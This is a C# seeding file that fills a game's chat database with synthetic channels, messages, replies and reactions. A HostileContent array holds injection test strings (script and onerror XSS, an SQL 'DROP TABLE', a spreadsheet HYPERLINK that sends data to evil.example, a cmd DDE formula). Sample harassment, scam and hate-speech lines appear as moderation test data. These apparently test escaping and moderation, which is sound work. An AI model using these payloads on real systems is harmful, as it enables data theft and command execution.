using GameOps.Data.Entities;

namespace GameOps.Data.Seeding;

internal sealed class ChannelInfo
{
    public Guid Id;
    public string ChannelId = "";
    public string Type = "";
    public DateTime CreatedAt;
    public GuildInfo? Guild;
    public readonly List<(PlayerInfo Player, DateTime JoinedAt)> Members = [];
    public double[] Cumulative = [];
    public double Weight;
}

internal sealed class MessageInfo
{
    public Guid Id;
    public string MessageId = "";
    public ChannelInfo Channel = null!;
    public PlayerInfo Sender = null!;
    public DateTime At;
    /// <summary>Report category the message deserves (harassment, spam, scam, hate_speech), or null.</summary>
    public string? Toxic;
}

internal sealed partial class SeedRun
{
    readonly List<ChannelInfo> channels = [];
    readonly List<MessageInfo> messages = [];

    static readonly string[] GlobalLines =
    [
        "anyone up for Abyssal Depths tonight?", "LFG {zone} quests, {class} lvl {level}", "what's the best build for {class} these days?",
        "gz {name}!", "is it just me or is the server lagging?", "how do I get to {zone}?", "where do I find {mob}??", "is the {event} worth doing?",
        "lol", "gg everyone", "who's going to the siege on Saturday?", "any guild recruiting casual players?", "finally hit level {level}!!",
        "does anyone know when the patch drops?", "the new festival music is so good", "can't believe I died to a goat in Ironpeak",
        "tip: sell your grey items before they clog the bags", "which profession makes the most gold?", "any healers around for a quick run?",
        "good morning everyone", "good night all, see you tomorrow", "drop rates on {item} are terrible", "is {zone} safe for a level {level}?",
    ];
    static readonly string[] TradeLines =
    [
        "WTS [{item}] {price}g", "WTB {mat} x{n}, paying well", "selling {mat} x{n}, {price}g each", "LF blacksmith to craft [{item}], have mats",
        "WTT [{item}] for [{item2}]", "cheap potions, whisper me", "buying all {mat} you have", "[{item}] for sale, best offer",
    ];
    static readonly string[] GuildLines =
    [
        "raid at 20:00 tonight, be on time please", "who needs {mat}? I have spare", "gz on the level up {name}!", "can someone invite my alt?",
        "bank has [{item}] if anyone needs it", "brb", "thanks for the carry!", "siege sign-up sheet is in the guild notes", "anyone want to run dailies?",
        "new recruits: ask officers for a starter kit", "we're 2 points away from guild level up", "who took all the potions from the bank? :)",
    ];
    static readonly string[] PartyLines =
    [
        "pull next pack?", "healer is oom, wait", "nice!", "I need to go in 10 min", "follow me", "inc {mob}", "ready?", "wipe, run back",
        "can we skip this boss?", "loot [{item}] anyone need?", "ty all, good run",
    ];
    static readonly string[] WhisperLines =
    [
        "hey, still selling [{item}]?", "ty for the help earlier", "want to duo {zone}?", "sure, meet at the bank", "added you as friend",
        "can you craft [{item}] for me?", "how much for {n} {mat}?", "deal, sending the trade now", "np, have fun!",
    ];
    static readonly (string Category, string[] Lines)[] ToxicLines =
    [
        ("harassment", ["you're trash, uninstall the game", "report this idiot, he's feeding the whole match", "go back to the tutorial, clown", "nobody wants you here, leave", "I'll camp your corpse all night, loser"]),
        ("spam", ["BUY GOLD CHEAP at g0ld-4-u.example !!! 10000g = $5", "CHEAP GOLD CHEAP GOLD CHEAP GOLD whisper me", "VISIT gold-shop.example FOR POWER LEVELING 1-60 IN 2 DAYS"]),
        ("scam", ["free gems here: http://free-gems.example/login just enter your password", "I'm a GM, give me your password so I can verify your account", "trade me your gear and I'll double it, promise"]),
        ("hate_speech", ["you people are vermin, go back where you came from", "people from your country shouldn't be allowed to play", "screw all of you, bunch of subhuman trash"]),
    ];
    static readonly string[] HostileContent =
    [
        "<script>alert(1)</script>",
        "=HYPERLINK(\"http://evil.example/steal?c=\"&A1,\"Click for free gems\")",
        "<img src=x onerror=alert(document.cookie)>",
        "'; DROP TABLE users; --",
        "=cmd|' /C calc'!A0",
        "{{7*7}} ${7*7} <b>bold</b> &amp; &lt;3",
    ];
    static readonly string[] Emojis = ["👍", "😂", "❤️", "🔥", "😮", "👎", "🎉", "gg"];

    async Task SeedChatAsync()
    {
        var r = Rng("channels");
        var created = Sec(Now.AddDays(-150));
        var permissions = Json(new { can_post = "members", slow_mode_seconds = 0, links_allowed = false });

        ChannelInfo NewChannel(string id, string type, DateTime at, double weight, GuildInfo? guild = null)
        {
            var c = new ChannelInfo { Id = r.NextGuid(), ChannelId = id, Type = type, CreatedAt = at, Weight = weight, Guild = guild };
            channels.Add(c);
            return c;
        }

        var general = NewChannel("ch_global_general", "global", created, 0.28);
        var lfg = NewChannel("ch_global_lfg", "global", created, 0.1);
        var trade = NewChannel("ch_trade", "trade", created, 0.2);
        foreach (var p in players)
        {
            general.Members.Add((p, Sec(p.CreatedAt.AddMinutes(1))));
            if (r.Chance(0.5)) lfg.Members.Add((p, r.Between(p.CreatedAt, p.LastSeen.AddSeconds(1))));
            if (r.Chance(0.65)) trade.Members.Add((p, r.Between(p.CreatedAt, p.LastSeen.AddSeconds(1))));
        }
        var guildTotal = guilds.Sum(g => g.Members.Count);
        foreach (var g in guilds.Where(g => g.Members.Count > 0))
        {
            var c = NewChannel($"ch_guild_{g.GuildId}", "guild", g.CreatedAt, 0.3 * g.Members.Count / Math.Max(1, guildTotal), g);
            foreach (var m in g.Members.GroupBy(m => m.Player).Select(x => x.OrderBy(a => a.GuildJoinedAt).First()))
                c.Members.Add((m.Player, m.GuildJoinedAt!.Value));
        }
        var recent = players.Where(p => p.Active && p.LastSeen > Now.AddDays(-14)).ToList();
        var parties = Scaled(15);
        for (var i = 0; i < parties && recent.Count >= 5; i++)
        {
            var members = r.Sample(recent, r.Between(3, 5));
            var from = members.Max(m => m.CreatedAt);
            var to = members.Min(m => m.LastSeen);
            if (to <= from) continue;
            var at = r.Between(Max(from, to.AddDays(-3)), to);
            var c = NewChannel($"ch_party_{r.Hex(12)}", "party", at, 0.07 / parties);
            foreach (var m in members) c.Members.Add((m, at));
        }
        var whispers = Scaled(40);
        for (var i = 0; i < whispers && recent.Count >= 2; i++)
        {
            var pair = r.Sample(recent, 2);
            var from = Max(pair[0].CreatedAt, pair[1].CreatedAt);
            var to = Min(pair[0].LastSeen, pair[1].LastSeen);
            if (to <= from) continue;
            var at = r.Between(Max(from, to.AddDays(-20)), to);
            var c = NewChannel($"ch_dm_{r.Hex(12)}", "whisper", at, 0.05 / whispers);
            foreach (var m in pair) c.Members.Add((m, at));
        }

        var trusted = r.Sample(players.Where(p => p.Active && !p.Troublemaker && p.Main.Level >= 30).ToList(), 4);
        foreach (var c in channels)
        {
            var first = c.Members.Count > 0 ? c.Members[0].Player : null;
            await AddAsync(new ChatChannel
            {
                Id = c.Id,
                ChannelId = c.ChannelId,
                Name = c.Type switch
                {
                    "global" => c == general ? "General" : "Looking for Group",
                    "trade" => "Trade",
                    "guild" => c.Guild!.Name,
                    "party" => $"{first!.Main.Name}'s party",
                    _ => Trunc($"{c.Members[0].Player.Username} & {c.Members[1].Player.Username}", 128),
                },
                Description = c.Type switch
                {
                    "global" => c == general ? "Server-wide chat. Be nice; moderators are watching." : "Find a group for quests, dungeons and raids.",
                    "trade" => "Buying and selling only. Gold sellers will be banned.",
                    "guild" => "Guild chat",
                    _ => null,
                },
                ChannelType = c.Type,
                OwnerId = c.Type is "party" or "whisper" ? first!.Id : c.Type == "guild" ? c.Guild!.Leader?.Player.Id : null,
                GuildId = c.Guild?.Id,
                IsActive = c.Type switch { "party" => c.CreatedAt > Now.AddDays(-1), _ => true },
                MaxMembers = c.Type switch { "party" => 5, "whisper" => 2, "guild" => 200, _ => null },
                Permissions = c.Type is "global" or "trade" ? permissions : Json(new { can_post = "members", slow_mode_seconds = 0, links_allowed = true }),
                CreatedAt = c.CreatedAt,
                UpdatedAt = c.Members.Count > 0 ? Max(c.CreatedAt, c.Members.Max(m => m.JoinedAt)) : c.CreatedAt,
            });
        }
        await FlushAsync();

        foreach (var c in channels)
        {
            var isPublic = c.Type is "global" or "trade";
            foreach (var (p, joined) in c.Members)
            {
                var role = c.Type switch
                {
                    "guild" => c.Guild!.Leader?.Player == p ? "owner" : c.Guild.Members.Any(a => a.Player == p && a.GuildRank == "officer") ? "moderator" : "member",
                    "party" or "whisper" => c.Members[0].Player == p ? "owner" : "member",
                    _ => trusted.Contains(p) ? "moderator" : "member",
                };
                await AddAsync(new ChannelMember
                {
                    Id = r.NextGuid(),
                    ChannelId = c.Id,
                    UserId = p.Id,
                    Role = role,
                    Permissions = Json(new { can_post = true, can_pin = role != "member", can_delete_messages = role != "member" }),
                    JoinedAt = joined,
                    LastReadAt = p.LastSeen >= joined ? r.Between(Max(joined, p.LastSeen.AddHours(-12)), p.LastSeen.AddSeconds(1)) : null,
                    IsMuted = isPublic && (p.Status == "suspended" || (p.Troublemaker && r.Chance(0.3))),
                    IsBanned = isPublic && p.Status == "banned",
                });
            }
        }
        await FlushAsync();

        await SeedMessagesAsync();
    }

    async Task SeedMessagesAsync()
    {
        var r = Rng("chat_messages");
        var total = Scaled(6000);
        var windowStart = Now.AddDays(-21);
        var channelWeights = channels.Select(c => c.Weight).ToList();
        foreach (var c in channels)
        {
            var acc = 0.0;
            c.Cumulative = c.Members.Select(m => acc += (0.2 + m.Player.Engagement) * (m.Player.Troublemaker ? 2.5 : 1)).ToArray();
        }

        for (var i = 0; i < total; i++)
        {
            var c = channels[r.PickIndex(channelWeights)];
            if (c.Members.Count == 0) continue;
            for (var attempt = 0; attempt < 6; attempt++)
            {
                var x = r.NextDouble() * c.Cumulative[^1];
                var idx = Array.BinarySearch(c.Cumulative, x);
                if (idx < 0) idx = ~idx;
                var (sender, joined) = c.Members[Math.Min(idx, c.Members.Count - 1)];
                var from = Max(Max(windowStart, joined), sender.CreatedAt);
                var to = Min(sender.LastSeen, Now);
                if (to <= from) continue;
                DateTime at = from;
                for (var k = 0; k < 20; k++)
                {
                    at = r.Between(from, to);
                    if (r.NextDouble() * 2.6 < HourWeights[at.Hour]) break;
                }
                messages.Add(new MessageInfo { Id = r.NextGuid(), MessageId = "msg_" + r.Hex(20), Channel = c, Sender = sender, At = at });
                break;
            }
        }
        messages.Sort((a, b) => a.At != b.At ? a.At.CompareTo(b.At) : a.Id.CompareTo(b.Id));

        // Troublemakers misbehave in public channels and whispers.
        foreach (var m in messages.Where(m => m.Sender.Troublemaker && m.Channel.Type is not "guild"))
            if (r.Chance(0.35)) m.Toxic = r.PickWeighted<string>([("harassment", 4), ("spam", 3), ("scam", 2), ("hate_speech", 1)]);
        var hostileSlots = messages.Where(m => m.Sender.Troublemaker && m.Channel.Type is "global" or "trade").ToList();
        var hostile = new Dictionary<MessageInfo, string>();
        foreach (var (m, text) in r.Sample(hostileSlots, HostileContent.Length * 2).Zip(HostileContent.Concat(HostileContent)))
        {
            hostile[m] = text;
            m.Toxic = text.Contains("HYPERLINK", StringComparison.Ordinal) ? "scam" : "spam";
        }

        var recentByChannel = new Dictionary<ChannelInfo, List<MessageInfo>>();
        var rows = new List<object>();
        foreach (var m in messages)
        {
            if (!recentByChannel.TryGetValue(m.Channel, out var recentMessages)) recentByChannel[m.Channel] = recentMessages = [];
            var candidates = recentMessages.Where(x => x.Sender != m.Sender && (m.At - x.At).TotalHours < 6).ToList();
            MessageInfo? parent = candidates.Count > 0 && r.Chance(0.1) ? r.Pick(candidates) : null;
            var (content, type, metadata) = hostile.TryGetValue(m, out var h) ? (h, "text", null) : MessageContent(r, m);
            if (parent is not null && type == "text" && m.Toxic is null) content = $"@{parent.Sender.Main.Name} {content}";
            var edited = m.Toxic is null && r.Chance(0.025);
            var deleted = m.Toxic is not null ? r.Chance(0.35) : r.Chance(0.008);
            rows.Add(new ChatMessage
            {
                Id = m.Id,
                MessageId = m.MessageId,
                ChannelId = m.Channel.Id,
                UserId = m.Sender.Id,
                Content = content,
                MessageType = type,
                ReplyTo = parent?.MessageId,
                Metadata = metadata ?? Json(new { client = m.Sender.Platform, zone_id = m.Sender.Main.ZoneId, filtered = m.Toxic == "hate_speech" }),
                IsEdited = edited,
                EditedAt = edited ? Min(Sec(m.At.AddSeconds(r.Between(10, 600))), Now) : null,
                IsDeleted = deleted,
                DeletedAt = deleted ? Min(Sec(m.At.AddMinutes(r.Between(1, 300))), Now) : null,
                CreatedAt = m.At,
            });
            if (parent is not null)
                rows.Add(new MessageReply { Id = r.NextGuid(), ParentMessageId = parent.Id, ReplyMessageId = m.Id, CreatedAt = m.At });
            recentMessages.Add(m);
            if (recentMessages.Count > 15) recentMessages.RemoveAt(0);
        }
        // Messages first (replies point at them), then replies.
        await AddAllAsync(rows.OfType<ChatMessage>());
        await FlushAsync();
        await AddAllAsync(rows.OfType<MessageReply>());
        await FlushAsync();

        var rr = Rng("message_reactions");
        foreach (var m in messages)
        {
            if (!rr.Chance(m.Toxic is null ? 0.12 : 0.05)) continue;
            var reactors = rr.Sample(m.Channel.Members, Math.Min(m.Channel.Members.Count, rr.Between(1, 4)));
            var emojis = rr.Sample(Emojis, rr.Between(1, 2));
            foreach (var (p, _) in reactors)
            {
                if (p == m.Sender) continue;
                var at = rr.Between(m.At, Min(Now, m.At.AddHours(rr.Between(1, 12))));
                if (at > p.LastSeen || at < p.CreatedAt) continue;
                await AddAsync(new MessageReaction
                {
                    Id = rr.NextGuid(), MessageId = m.Id, UserId = p.Id,
                    Emoji = m.Toxic is null ? rr.Pick(emojis) : "👎",
                    CreatedAt = at,
                });
            }
        }
        await FlushAsync();
    }

    (string Content, string Type, string? Metadata) MessageContent(Random r, MessageInfo m)
    {
        if (m.Toxic is { } cat)
            return (r.Pick(ToxicLines.First(t => t.Category == cat).Lines), "text", null);
        var a = m.Sender.Main;
        var item = r.Pick(items.Where(i => i.Type != "quest").ToList());
        var roll = r.NextDouble();
        if (m.Channel.Type == "trade" && roll < 0.2)
            return ($"Trade offer: [{item.Name}] x{(item.StackSize > 1 ? r.Between(1, 20) : 1)} for {r.Between(1, 500) * 10}g", "trade_offer",
                Json(new { item_id = item.ItemId, price_gold = r.Between(1, 500) * 10 }));
        if (roll < 0.06)
            return ($"[{item.Name}]", "item_link", Json(new { item_id = item.ItemId, rarity = item.Rarity, client = m.Sender.Platform }));
        if (roll < 0.09)
            return ($"*{a.Name} {r.Pick(new[] { "dances", "waves", "cheers", "laughs", "bows", "facepalms" })}*", "emote", null);
        if (m.Channel.Type == "guild" && roll < 0.11)
            return ($"{a.Name} reached level {a.Level}!", "system", Json(new { @event = "level_up", level = a.Level }));
        var lines = m.Channel.Type switch
        {
            "trade" => TradeLines,
            "guild" => GuildLines,
            "party" => PartyLines,
            "whisper" => WhisperLines,
            _ => m.Channel.ChannelId == "ch_global_lfg" ? GlobalLines.Where(l => l.Contains("LFG", StringComparison.Ordinal) || l.Contains("up for", StringComparison.Ordinal) || l.Contains("healers", StringComparison.Ordinal)).ToArray() : GlobalLines,
        };
        var mat = r.Pick(items.Where(i => i.Type == "material").ToList());
        var z = zones.First(x => x.Id == a.ZoneId);
        var text = r.Pick(lines)
            .Replace("{zone}", z.Name, StringComparison.Ordinal)
            .Replace("{class}", a.Class, StringComparison.Ordinal)
            .Replace("{level}", a.Level.ToString(System.Globalization.CultureInfo.InvariantCulture), StringComparison.Ordinal)
            .Replace("{name}", r.Pick(actors).Name, StringComparison.Ordinal)
            .Replace("{mob}", r.Pick(ZoneMonsters[z.Id]).Replace("mob_", "", StringComparison.Ordinal).Replace('_', ' '), StringComparison.Ordinal)
            .Replace("{event}", r.Pick(EventDefs).Name, StringComparison.Ordinal)
            .Replace("{item}", item.Name, StringComparison.Ordinal)
            .Replace("{item2}", r.Pick(items).Name, StringComparison.Ordinal)
            .Replace("{mat}", mat.Name, StringComparison.Ordinal)
            .Replace("{price}", (r.Between(1, 300) * 5).ToString(System.Globalization.CultureInfo.InvariantCulture), StringComparison.Ordinal)
            .Replace("{n}", r.Between(2, 60).ToString(System.Globalization.CultureInfo.InvariantCulture), StringComparison.Ordinal);
        return (text, "text", null);
    }
}
